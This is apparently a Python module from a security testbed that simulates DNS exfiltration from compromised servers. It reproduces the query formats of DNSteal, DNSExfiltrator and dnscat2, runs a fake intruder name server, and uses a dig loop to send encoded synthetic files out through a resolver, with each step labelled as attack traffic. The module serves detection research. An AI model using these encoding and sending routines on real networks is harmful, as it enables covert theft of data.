"""DNS exfiltration from a taken server: what DNSteal's one-liner sends in its variants, and what DNSExfiltrator and dnscat2 send.

Formats: https://github.com/m57/dnsteal, https://github.com/Arno0x/DNSExfiltrator,
https://github.com/iagox86/dnscat2/blob/master/doc/protocol.md
"""

import base64
import gzip
import random
import socket
import struct
import threading

import words
from actors.lookups import ask

RECEIVED = {"dns": "attacker:dnsteal:dnsteal-received"}
DROPPED = {"dns": "attacker:dnsteal:dnsteal-dropped"}


def receive(lab):
    """The intruder's name server: answers every query with its own address, and so acknowledges the piece."""
    address = lab.testbed.intruder.address

    def loop():
        lab.attacker.enter()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((address, 53))
            while True:
                packet, peer = sock.recvfrom(2048)
                end = packet.index(b"\0", 12) + 5
                answer = struct.pack(">HHHLH", 0xC00C, 1, 1, 30, 4) + socket.inet_aton(address)
                sock.sendto(packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:end] + answer, peer)

    threading.Thread(target=loop, name="receiver", daemon=True).start()


def pieces(content, file_name, style, rng):
    """The names that carry `content`: 1-4 labels of up to 60 characters joined by "-.", then the file's name.

    style: base64 or hex, with "+prefix" for DNSteal's numbered form (3x6-.<n>-.).
    """
    packed = gzip.compress(content)
    text = packed.hex() if style.startswith("hex") else base64.b64encode(packed).decode().replace("+", "*")
    size = rng.choice([30, 45, 57, 57, 60])
    # A DNS name holds 253 characters; the prefixed form needs some for itself.
    per_name = max(1, min(rng.choice([2, 3, 3, 4]), (235 - len(file_name)) // (size + 2)))
    chunks = [text[i:i + size] for i in range(0, len(text), size)]
    names = []
    for number, i in enumerate(range(0, len(chunks), per_name)):
        group = chunks[i:i + per_name]
        if style.endswith("+prefix"):
            group = ["3x6", str(number), *group]
        names.append("-.".join(group) + "-." + file_name)
    return names


def numbered(content, domain, rng):
    """The names of DNSExfiltrator: "init." with the file's name and the number of chunks, then <number>.<base32 labels>."""
    text = base64.b32encode(gzip.compress(content)).decode().rstrip("=")
    room = rng.randrange(100, 230 - len(domain))
    chunks = [text[i:i + room] for i in range(0, len(text), room)]
    first = base64.b32encode(f"{rng.choice(words.NOUNS)}.zip|{len(chunks)}".encode()).decode().rstrip("=")
    return [f"init.{first}.base32.{domain}", *(f"{number}.{_labels(chunk, rng.choice([63, 63, 40]))}.{domain}" for number, chunk in enumerate(chunks))]


def hexadecimal(content, domain, rng):
    """The names of dnscat2: packet id, type, session, sequence and acknowledgement in hex, then the data."""
    session, packed, names = rng.getrandbits(16), gzip.compress(content), []
    room = rng.randrange(30, (225 - len(domain)) // 2 - 12)
    for position in range(0, len(packed), room):
        head = struct.pack(">HBHHH", rng.getrandbits(16), 1, session, position & 0xFFFF, rng.getrandbits(16))
        names.append(f"{_labels((head + packed[position:position + room]).hex(), 60)}.{domain}")
    return names


def _labels(text, size):
    return ".".join(text[i:i + size] for i in range(0, len(text), size))


def company_text(rng, size):
    """A company's text: people, orders, figures."""
    return "\n".join(f"{rng.choice(words.FIRST)};{rng.choice(words.NOUNS)};{rng.randrange(10**6)};{rng.getrandbits(60):x}" for _ in range(size)).encode()


def _names(bed, style, domain, rng, blocked):
    """The names of one transfer in a style; DNSteal's end with the stolen file's name, which the intruder may put before a domain."""
    content = company_text(rng, rng.randrange(60, 110) if bed.short else rng.randrange(60, 260))
    if style == "numbered":
        return numbered(content, domain, rng)
    if style == "dnscat":
        return hexadecimal(content, rng.choice([domain, f"{rng.choice(['x', 'ns1', 'dnscat', 'cdn'])}.{domain}"]), rng)
    ending = rng.choice(["txt", "pdf", "xlsx", "gz", "sql", "docx", "conf"])
    file_name = f"{words.ascii_only(rng.choice(words.NOUNS))}{rng.choice(['', '_2026', '-old', ''])}.{ending}"
    return pieces(content, file_name + (f".{domain}" if blocked or rng.random() < .6 else ""), style, rng)


STYLES = ["base64", "numbered", "hex", "base64+prefix", "dnscat", "base64", "hex+prefix"]
TYPES = {"numbered": ["TXT"], "dnscat": ["TXT", "CNAME", "MX"]}


def run(lab):
    """Send files out from two servers; the company's resolver blocks one of the domains."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 900)
    for i in range(2 if bed.short else 14):
        host = (lab.intra, lab.web)[i % 2]
        blocked = i % 3 == 2
        style = ("base64+prefix", "base64")[i] if bed.short else STYLES[(i + bed.seed) % len(STYLES)]
        names = _names(bed, style, bed.intruder.blocked_domain if blocked else bed.intruder.exfil_domain, rng, blocked)
        tool = "dig" if i == 0 else "script"
        with lab.journal.step(f"exfil-{style}-{i}", tool, [host.address], DROPPED if blocked else RECEIVED, names=names):
            if tool == "dig":
                loop = "while read -r n; do dig @%s \"$n\" +short +tries=1 +time=1; done" % lab.gate_address
                host.attempt(loop, user="www-data", timeout=60, text_input="\n".join(names) + "\n")
            else:
                _send(lab, host, names, TYPES.get(style, ["A"]), rng)


def _send(lab, host, names, types, rng):
    """Send from the host's own network (a thread can be there; its files are not needed)."""
    def work():
        host.enter()
        for name in names:
            ask(lab.gate_address, name, rng.choice(types), host.address, wait=.5)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join(60)
